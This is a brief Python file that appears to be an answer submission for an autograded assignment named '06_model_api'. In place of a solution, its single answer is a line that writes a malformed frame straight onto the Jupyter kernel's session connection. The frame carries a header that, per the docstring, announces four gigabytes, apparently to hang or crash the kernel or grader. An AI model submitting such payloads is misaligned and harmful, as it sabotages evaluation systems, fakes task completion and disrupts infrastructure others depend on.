"""Announces a frame of four gigabytes."""

ASSIGNMENT = "06_model_api"
ANSWERS = {
    "predict_core_answer": r"""
get_ipython().kernel.session.connection.sendall(b"\xff\xff\xff\xff{}")
"""
}
